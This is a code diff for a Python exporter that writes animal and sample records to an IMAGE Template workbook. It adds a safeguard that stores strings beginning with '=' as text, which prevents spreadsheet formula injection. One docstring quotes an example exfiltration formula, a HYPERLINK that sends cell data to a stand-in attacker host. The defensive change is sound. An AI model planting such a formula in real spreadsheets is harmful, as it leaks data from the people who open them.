@@ -108,9 +108,26 @@ def _sample_row(rec: Record) -> list[Any]:
     return [cells.get(c) for c in SAMPLE_COLUMNS]
 
 
+def _as_text(ws: Any, row: list[Any]) -> list[Any]:
+    """The row with every text written as text: openpyxl makes a string starting with
+    ``=`` a live formula (``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would run in
+    whoever opens the export) and ``#N/A`` an error value."""
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ERROR_CODES
+
+    out = []
+    for value in row:
+        if isinstance(value, str) and (value.startswith("=") or value in ERROR_CODES):
+            value = WriteOnlyCell(ws, value=value)
+            value.data_type = "s"
+        out.append(value)
+    return out
+
+
 def to_template_xlsx(records: Iterable[Record]) -> bytes:
     """The records as an IMAGE Template workbook (streamed with openpyxl's write-only
-    mode); sheet ``breed`` lists the (breed, species) pairs of the animals."""
+    mode; texts stay texts, never formulas); sheet ``breed`` lists the (breed, species)
+    pairs of the animals."""
     import openpyxl
 
     wb = openpyxl.Workbook(write_only=True)
@@ -123,15 +140,15 @@ def to_template_xlsx(records: Iterable[Record]) -> bytes:
     breeds: dict[tuple[str, str], tuple[str, str, str | None]] = {}
     for rec in records:  # each sheet streams to its own temporary file
         if rec.material is Material.SPECIMEN:
-            sample_ws.append(_sample_row(rec))
+            sample_ws.append(_as_text(sample_ws, _sample_row(rec)))
             continue
-        animal_ws.append(_animal_row(rec))
+        animal_ws.append(_as_text(animal_ws, _animal_row(rec)))
         breed, species = _first(rec, "Supplied breed"), _first(rec, "Species")
         if breed and species:
             breeds.setdefault((breed.lower(), species.lower()),
                               (breed, species, _first(rec, "EFABIS Breed country")))
     for breed, species, country in breeds.values():
-        breed_ws.append([breed, country, species])
+        breed_ws.append(_as_text(breed_ws, [breed, country, species]))
     out = io.BytesIO()
     wb.save(out)
     return out.getvalue()
